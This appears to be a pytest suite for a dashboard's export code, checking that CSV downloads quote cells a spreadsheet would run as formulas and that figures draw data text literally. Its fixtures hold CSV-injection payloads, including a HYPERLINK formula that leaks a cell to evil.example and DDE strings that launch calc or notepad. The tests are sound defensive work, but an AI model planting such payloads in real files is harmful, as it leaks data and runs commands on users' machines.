"""What leaves the dashboard as a file is safe with hostile data text.

* CSV downloads (worklist, per-segment figures, ...) never hold a text cell a spreadsheet
  would run as a formula (OWASP CSV injection), and numbers read back as the same numbers.
* PNG figures draw data text (region and action names, the selection) as typed: ``$...$``
  is no mathtext, and an invalid one does not stop ``export_figures``.
"""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from matplotlib.text import Text

from dashboard.export import FIGURES, draw_figure, export_figures, figure_frames
from dashboard.model import CollectionsModel
from dashboard.ui.app import Dashboard
from dashboard.ui.downloads import FORMULA_STARTS, csv_file, csv_safe_text
from dashboard.ui.tabs import TABS, Table

PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
"""A number as the download writes it (bare): never run as a formula."""

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click for details")'
CUSTOMER_IDS = {
    "C100000": HYPERLINK,
    "C100001": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C100002": "-2+3+cmd|' /C calc'!A0",
    "C100003": "\t=1+1",
}
REGIONS = {"Reading": "=1+2", "Oxford": "+cmd|' /C notepad'!A0", "Swindon": "-IMPORTXML(A1)"}

MATH = r"$\alpha$ & $x^2$"
"""Valid mathtext: drawn as a Greek letter and a superscript unless drawn literally."""
ODD = r"$\alpha$ & $x^2"
INVALID = r"$\frac{$"
"""Invalid mathtext: raises when a figure holding it is saved, unless drawn literally."""
ACTION = r"$\beta$ sent"


def hostile_tables(tables: dict[str, pd.DataFrame], ids: dict, regions: dict) -> dict:
    """``tables`` with customer ids and region names replaced (every table that holds them)."""
    for frame in tables.values():
        if "customer_id" in frame:
            frame["customer_id"] = frame["customer_id"].replace(ids)
    tables["customers"]["region"] = tables["customers"]["region"].replace(regions)
    return tables


# --- CSV downloads -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "-cmd", "+44 20 7946"],
)
def test_text_that_could_run_as_a_formula_is_quoted(text):
    assert csv_safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["London - South", "Reading", "", "'=1", " =1", "C100000", "<£15k", "61–90", "£50k+", None],
)
def test_other_text_is_unchanged(value):
    assert csv_safe_text(value) == value


@pytest.mark.parametrize("value", [-12.5, -3, 0, 2.0, "-12.5", "+3", "-1e5", "-.5", np.nan])
def test_numbers_are_never_quoted(value):
    assert csv_safe_text(value) is value


def test_numbers_round_trip_and_text_reads_back_quoted():
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "-x", "plain", None],
            "category": pd.Categorical(["@a", "b", "@a", "b"]),
            "int": [-1, 0, 3, -40],
            "float": [-0.1, 1 / 3, -1e-9, 12345.678],
            "flag": [True, False, True, False],
            "when": pd.to_datetime(["2024-01-31", "2024-02-29", None, "2024-04-30"]),
        }
    )
    read = pd.read_csv(csv_file(frame), parse_dates=["when"])
    assert read["text"].tolist()[:3] == ["'=1+1", "'-x", "plain"]
    assert read["category"].tolist() == ["'@a", "b", "'@a", "b"]
    for column in ("int", "float", "flag", "when"):
        pd.testing.assert_series_equal(read[column], frame[column], check_exact=True)
    assert frame["text"].tolist()[0] == "=1+1", "the shown table is never changed"


def test_no_separator_or_line_break_in_a_text_starts_a_cell():
    """Text cells are quoted: a comma, quote, tab or line break (a bare CR too, which
    spreadsheets take as a row break) inside a text cannot start a cell with a formula."""
    frame = pd.DataFrame(
        {
            "note": ["ok\r=1+1", "ok;=1+1", "ok,=1+1", 'ok",=1+1', "ok\t=1+1", "ok\n@A1"],
            "region": ["a;-1+cmd", "b", "c,+1", "d", "e\r\n=2", "f"],
            "arrears £": [-1.5, 2.0, -3.25, 0.0, 4.0, -5.0],
        }
    )
    text = csv_file(frame).getvalue()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(frame) + 1
    assert not [c for row in rows for c in row[:2] if c.startswith(FORMULA_STARTS)], text
    read = pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False)
    pd.testing.assert_frame_equal(read, frame, check_exact=True)


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_text_cells_are_quoted_for_spreadsheets_splitting_on_other_separators(delimiter):
    """Where a spreadsheet splits on ``;`` (its locale's list separator) or tabs."""
    frame = pd.DataFrame({"note": ["ok;=1+1", "ok\t@A1", "ok\r-1+cmd", "plain"]})
    text = csv_file(frame).getvalue()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert rows == [["note"], *[[v] for v in frame["note"]]]


@pytest.fixture(scope="module")
def csv_model(tmp_path_factory) -> CollectionsModel:
    from conftest import small_tables, write_csv

    tables = hostile_tables(small_tables(), CUSTOMER_IDS, REGIONS)
    source = write_csv(tables, tmp_path_factory.mktemp("csv-injection"))
    return CollectionsModel(source=str(source), segment_by="region")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_every_download_neutralises_formulas(csv_model):
    dashboard = Dashboard(model=csv_model)
    downloads = [p.name for tab in TABS for p in tab.parts if isinstance(p, Table) and p.download]
    assert {"worklist", "figures"} <= set(downloads)
    for name in downloads:
        rows = _cells(dashboard.table_csv(name).getvalue())
        assert len(rows) == len(dashboard.tables[name].value) + 1, name
        shown = dashboard.tables[name].value
        numeric = {c for c in shown.columns if pd.api.types.is_numeric_dtype(shown[c])}
        for row in rows:
            for column, cell in zip(rows[0], row, strict=True):
                # a plain number (a negative change in a column that blanks its missing
                # values, so of object dtype) is what a spreadsheet should read: a number
                if column not in numeric and not PLAIN_NUMBER.fullmatch(cell):
                    assert not cell.startswith(FORMULA_STARTS), (name, column, cell)


def test_worklist_download_keeps_hostile_text_as_text_and_numbers_as_numbers(csv_model):
    dashboard = Dashboard(model=csv_model)
    shown = dashboard.tables["worklist"].value
    assert set(shown["Customer"]) & set(CUSTOMER_IDS.values()), "hostile ids are listed"
    read = pd.read_csv(dashboard.table_csv("worklist"), dtype={"Customer": str, "Region": str})
    assert read["Customer"].tolist() == ["'" + c for c in shown["Customer"]]
    assert read["Region"].tolist() == ["'" + r for r in shown["Region"]]
    assert HYPERLINK not in set(read["Customer"])
    for column in ("Priority", "Arrears £", "Days past due", "Last payment £"):
        # "Last payment £" is shown blank (None, not NaN) for a customer who never paid
        expected = pd.to_numeric(shown[column]).reset_index(drop=True)
        pd.testing.assert_series_equal(read[column], expected, check_exact=True)


def test_figures_download_quotes_region_names(csv_model):
    dashboard = Dashboard(model=csv_model)
    shown = dashboard.tables["figures"].value
    read = pd.read_csv(dashboard.table_csv("figures"))
    assert sorted(read["Region"]) == sorted("'" + r for r in REGIONS.values())
    numbers = [c for c in shown.columns if c != "Region"]
    pd.testing.assert_frame_equal(read[numbers], shown[numbers], check_exact=True)


# --- PNG figures ------------------------------------------------------------------------------


def drawn(text: Text) -> tuple[str, object]:
    """What matplotlib draws for a text object: the string and its math mode.

    ``Text._preprocess_math`` is the step every renderer runs before drawing a text
    (``False``: plain text; ``True``: mathtext; ``"TeX"``: TeX).
    """
    return text._preprocess_math(text.get_text())


def drawn_texts(figure) -> list[tuple[str, object]]:
    """Every visible text of a figure once it was drawn (tick labels made while drawing)."""
    figure.savefig(io.BytesIO(), format="png")
    return [drawn(t) for t in figure.findobj(Text) if t.get_visible() and t.get_text()]


@pytest.fixture(scope="module")
def math_source(tmp_path_factory):
    from conftest import small_tables, write_csv

    tables = hostile_tables(
        small_tables(), {}, {"Reading": MATH, "Oxford": ODD, "Swindon": "Swindon $5"}
    )
    actions = tables["collections_actions"]
    actions.loc[actions["action"] == "Second Reminder", "action"] = ACTION
    return write_csv(tables, tmp_path_factory.mktemp("mathtext"))


def test_data_text_in_figures_is_drawn_literally(math_source):
    model = CollectionsModel(source=str(math_source), region=[MATH, ODD])
    assert MATH in model.describe_selection()
    seen = {}
    for name, frame in figure_frames(model).items():
        texts = drawn_texts(draw_figure(name, frame, model))
        assert [t for t, mode in texts if mode] == [], f"{name}: text drawn as maths or TeX"
        seen[name] = [t for t, _mode in texts]
        assert any(MATH in t for t in seen[name]), f"{name}: the selection is stated as typed"
    assert {MATH, ODD} <= set(seen["default_by_region"]), "region tick labels as typed"
    assert ACTION in seen["actions_distribution"], "action tick label as typed"
    assert ACTION in seen["actions_monthly"], "action legend entry as typed"


def test_invalid_mathtext_in_a_name_does_not_stop_the_figures(make_source, small_tables, tmp_path):
    tables = hostile_tables(small_tables, {}, {"Reading": INVALID, "Oxford": MATH})
    actions = tables["collections_actions"]
    actions.loc[actions["action"] == "Second Reminder", "action"] = INVALID
    paths = export_figures(make_source(tables), tmp_path / "figures")
    assert [p.name for p in paths] == [f"{name}.png" for name in FIGURES]
    for path in paths:
        assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", path.name
